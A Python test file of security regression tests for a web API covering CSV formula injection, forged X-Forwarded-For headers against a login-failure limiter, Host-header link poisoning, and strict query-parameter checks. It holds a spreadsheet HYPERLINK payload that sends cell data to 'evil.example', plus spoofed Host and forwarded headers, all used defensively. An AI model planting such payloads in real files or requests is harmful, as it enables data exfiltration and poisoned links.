"""What an attack on the running service found in the shared plumbing, as regression tests:
spreadsheet formulas in CSV, forwarded addresses and the failed-authentication limiter,
Host-built links, unknown query parameters, Vary and the OpenAPI conventions."""

import csv
import io
import os
import re
from collections.abc import Callable

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import text

from app.core.config import Settings
from app.core.db import Database
from app.main import create_app
from tests.conftest import bearer
from tests.live_server import live_server

WRONG = {"Authorization": "Bearer ac_" + "x" * 43}
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturned",
]


def csv_rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.text)))


def test_csv_cells_never_start_a_formula(as_user, database: Database) -> None:
    editor = as_user("us-editor")
    refs = []
    for title in FORMULAS:
        # A title is one line now: one that starts with a tab or a line end is stored data
        # from before, written behind the API.
        one_line = title.lstrip("\t\r") or "placeholder"
        made = editor.post(
            "/api/v1/commitments",
            json={"title": one_line, "parties": ["US"], "due_date": "2020-01-01"},
        )
        assert made.status_code == 201, made.text
        refs.append(made.json()["ref"])
        if one_line != title:
            with database.writer.begin() as connection:
                connection.execute(
                    text("UPDATE commitment SET title = :title WHERE ref = :ref"),
                    {"title": title, "ref": refs[-1]},
                )
    exports = [
        editor.get("/api/v1/commitments", params={"format": "csv", "party": "US"}),
        editor.get("/api/v1/reports/overdue", params={"format": "csv"}),
        editor.get("/api/v1/reports/deadlines", params={"format": "csv"}),
        editor.get("/api/v1/reports/summary", params={"format": "csv", "group_by": "status"}),
    ]
    for response in exports:
        for row in csv_rows(response)[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (response.url, cell)
                assert not (cell.startswith("-") and not cell.lstrip("-").isdigit()), cell
    titles = {row[1] for row in csv_rows(exports[0])[1:]}
    assert "'" + FORMULAS[0] in titles
    # Numbers stay numbers, negative ones included (due soon: days_overdue below zero).
    summary = csv_rows(exports[3])
    assert all(cell.isdigit() for cell in summary[-1][2:9])


def test_forwarded_headers_count_only_from_configured_proxies(database_url: str) -> None:
    with live_server(database_url, COMMITMENTS_AUTH_FAILURES_PER_MINUTE="5") as (url, _):
        answers = [
            httpx.get(
                f"{url}/api/v1/me", headers=WRONG | {"X-Forwarded-For": f"203.0.113.{n}"}
            ).status_code
            for n in range(8)
        ]
        assert answers == [401] * 5 + [429] * 3, "forged addresses must not dodge the limit"
        # The same address, with a valid token: never refused for the failures.
        assert httpx.get(f"{url}/api/v1/me", headers=bearer("admin")).status_code == 200
    with live_server(
        database_url,
        COMMITMENTS_AUTH_FAILURES_PER_MINUTE="5",
        COMMITMENTS_TRUSTED_PROXIES='["127.0.0.1"]',
    ) as (url, _):
        answers = [
            httpx.get(
                f"{url}/api/v1/me", headers=WRONG | {"X-Forwarded-For": f"203.0.113.{n}"}
            ).status_code
            for n in range(8)
        ]
        assert answers == [401] * 8, "behind a trusted proxy, each client counts on its own"


def test_a_valid_token_is_never_refused_for_others_failures(settings: Settings) -> None:
    app = create_app(settings.model_copy(update={"auth_failures_per_minute": 3}))
    with TestClient(app, client=("192.0.2.1", 5000)) as shared_nat:
        statuses = [shared_nat.get("/api/v1/me", headers=WRONG).status_code for _ in range(5)]
        assert statuses == [401, 401, 401, 429, 429]
        refused = shared_nat.get("/api/v1/me", headers=WRONG)
        assert refused.headers["content-type"] == "application/problem+json"
        assert int(refused.headers["retry-after"]) >= 1
        assert shared_nat.get("/api/v1/me", headers=bearer("us-viewer")).status_code == 200


def test_ipv6_clients_are_counted_per_64(settings: Settings) -> None:
    app = create_app(settings.model_copy(update={"auth_failures_per_minute": 2}))
    statuses = []
    for host in ("2001:db8::1", "2001:db8::2", "2001:db8::ffff:1", "2001:db8:0:1::1"):
        with TestClient(app, client=(host, 5000)) as rotating:
            statuses.append(rotating.get("/api/v1/me", headers=WRONG).status_code)
    assert statuses == [401, 401, 429, 401]


def redis_url() -> str:
    url = "redis://127.0.0.1:6379/15"
    try:
        import redis

        redis.Redis.from_url(url, socket_connect_timeout=1).ping()
    except Exception:
        if os.environ.get("CI"):
            raise
        pytest.skip("no Redis on 127.0.0.1:6379")
    return url


def test_two_workers_share_the_count_through_redis(database_url: str) -> None:
    url = redis_url()
    import redis

    redis.Redis.from_url(url).flushdb()
    env = {
        "COMMITMENTS_AUTH_FAILURES_PER_MINUTE": "6",
        "COMMITMENTS_RATE_LIMIT_STORAGE": url,
    }
    with live_server(database_url, workers=2, **env) as (base, _):
        statuses = []
        for _ in range(10):
            # A new connection each time, so that both workers take some.
            statuses.append(httpx.get(f"{base}/api/v1/me", headers=WRONG).status_code)
        assert statuses == [401] * 6 + [429] * 4


def test_links_never_come_from_the_host_header(as_user) -> None:
    viewer = as_user("rok-viewer")
    evil = {"Host": "evil.example"}
    feed = viewer.post("/api/v1/me/calendar-token", headers=evil).json()["url"]
    assert feed.startswith("http://127.0.0.1:8000/api/v1/calendar.ics?token=")
    page = viewer.get("/api/v1/commitments", params={"limit": 2}, headers=evil)
    assert page.headers["link"].startswith("</api/v1/commitments?")
    report = viewer.get("/api/v1/reports/deadlines", headers=evil).json()
    links = [item["link"] for item in report["overdue"] + report["open"]]
    assert links
    assert all(link.startswith("http://127.0.0.1:8000/") for link in links)
    assert "evil.example" not in str(viewer.get("/api/v1/reports/overdue", headers=evil).json())


def test_unknown_query_parameters_are_refused_by_name(as_user) -> None:
    viewer = as_user("rok-viewer")
    response = viewer.get("/api/v1/commitments", params={"stauts": "blocked"})
    assert response.status_code == 422
    assert response.headers["content-type"] == "application/problem+json"
    assert "stauts" in response.json()["detail"]
    assert response.json()["errors"][0]["loc"] == ["query", "stauts"]
    for path in ("/api/v1/reports/summary?grup_by=area", "/api/v1/me?x=1", "/api/v1/areas?y=2"):
        assert viewer.get(path).status_code == 422, path
    assert viewer.get("/api/v1/commitments", params={"status": "blocked"}).status_code == 200


def callers_by_path(as_user) -> Callable[[str], TestClient]:
    """The administrator's client, and one with a metrics token for /metrics (authentication
    comes before the parameters are checked)."""
    admin = as_user("admin")
    me = admin.get("/api/v1/me").json()["id"]
    issued = admin.post(f"/api/v1/users/{me}/tokens", json={"scope": "metrics"}).json()
    monitor = TestClient(admin.app, headers={"Authorization": f"Bearer {issued['token']}"})
    return lambda path: monitor if path == "/metrics" else admin


def test_every_parameter_the_schema_lists_is_accepted_and_no_other(as_user, app) -> None:
    caller = callers_by_path(as_user)
    for path, operations in app.openapi()["paths"].items():
        url = re.sub(r"{[^}]+}", "x", path)
        for method, operation in operations.items():
            listed = {p["name"] for p in operation.get("parameters", []) if p["in"] == "query"}
            params = dict.fromkeys(listed, "1") | {"zzz": "1"}
            problem = caller(path).request(method.upper(), url, params=params).json()
            assert problem.get("errors") == [
                {
                    "loc": ["query", "zzz"],
                    "msg": "Unknown query parameter",
                    "type": "extra_forbidden",
                }
            ], (method, path, problem)


def test_a_parameter_of_one_value_given_twice_is_refused_on_every_operation(as_user, app) -> None:
    caller = callers_by_path(as_user)
    for path, operations in app.openapi()["paths"].items():
        url = re.sub(r"{[^}]+}", "x", path)
        for method, operation in operations.items():
            for parameter in operation.get("parameters", []):
                schema = parameter["schema"]
                several = schema.get("type") == "array" or any(
                    option.get("type") == "array" for option in schema.get("anyOf", [])
                )
                if parameter["in"] != "query" or several:
                    continue
                name = parameter["name"]
                answer = caller(path).request(
                    method.upper(), url, params=[(name, "1"), (name, "2")]
                )
                assert answer.status_code == 422, (method, path, name)
                assert answer.headers["content-type"] == "application/problem+json"
                assert answer.json()["errors"] == [
                    {"loc": ["query", name], "msg": "Given more than once", "type": "repeated"}
                ], (method, path, name)


def test_refusing_an_unknown_parameter_does_not_build_the_schema(as_user, app) -> None:
    """Building it took half a second on the first request and, from several threads at once,
    failed inside the framework (a 500 under load)."""
    viewer = as_user("rok-viewer")
    assert viewer.get("/api/v1/commitments", params={"stauts": "x"}).status_code == 422
    assert app.openapi_schema is None


def test_responses_chosen_by_accept_say_vary(as_user) -> None:
    viewer = as_user("rok-viewer")
    for path in ("/api/v1/commitments", "/api/v1/reports/summary", "/api/v1/reports/overdue"):
        for accept in ("application/json", "text/csv", "text/markdown"):
            response = viewer.get(path, headers={"Accept": accept})
            assert response.status_code == 200, (path, accept)
            assert "accept" in response.headers["vary"].lower(), (path, accept)


def test_operation_ids_are_clean_and_if_match_is_required_where_428_follows(
    client: TestClient,
) -> None:
    schema = client.get("/openapi.json").json()
    ids = [op["operationId"] for ops in schema["paths"].values() for op in ops.values()]
    assert "list_commitments" in ids
    assert all("_api_v1_" not in operation_id for operation_id in ids)
    assert len(ids) == len(set(ids))
    patch = schema["paths"]["/api/v1/commitments/{ref}"]["patch"]
    if_match = next(p for p in patch["parameters"] if p["name"] == "If-Match")
    assert if_match["required"] is True
    note = schema["paths"]["/api/v1/commitments/{ref}/updates"]["post"]
    assert not next(p for p in note["parameters"] if p["name"] == "If-Match").get("required")
    # Still 428, not a 422, when it is missing.
    assert client.patch("/api/v1/commitments/SCM56-RCF-13", json={}).status_code == 428


def test_tokens_with_times_out_of_range_are_422(client: TestClient) -> None:
    user_id = client.get("/api/v1/users").json()["items"][0]["id"]
    for expires in ("9999-12-31T23:59:59-14:00", "2027-01-01T00:00:00", 1700000000):
        response = client.post(f"/api/v1/users/{user_id}/tokens", json={"expires_at": expires})
        assert response.status_code == 422, (expires, response.text)
        assert response.headers["content-type"] == "application/problem+json"
    created = client.post(
        "/api/v1/users",
        json={
            "name": "far",
            "role": "viewer",
            "party": "US",
            "token_expires_at": "9999-12-31T23:59:59-14:00",
        },
    )
    assert created.status_code == 422
    assert "far" not in {user["name"] for user in client.get("/api/v1/users").json()["items"]}


def test_redirects_and_calendar_links_never_come_from_the_host_header(
    as_user, settings: Settings
) -> None:
    viewer = as_user("rok-viewer")
    evil = {"Host": "evil.example"}
    moved = viewer.get("/api/v1/commitments/?limit=2", headers=evil, follow_redirects=False)
    assert moved.status_code == 307
    assert moved.headers["location"] == f"{settings.public_url}/api/v1/commitments?limit=2"
    missing = viewer.get("/api/v1/nothing-here/", headers=evil, follow_redirects=False)
    assert missing.status_code == 404
    assert missing.headers["content-type"] == "application/problem+json"
    feed = viewer.get("/api/v1/calendar.ics", headers=evil)
    assert feed.status_code == 200
    assert b"evil.example" not in feed.content
    assert f"URL:{settings.public_url}/api/v1/commitments/".encode() in feed.content
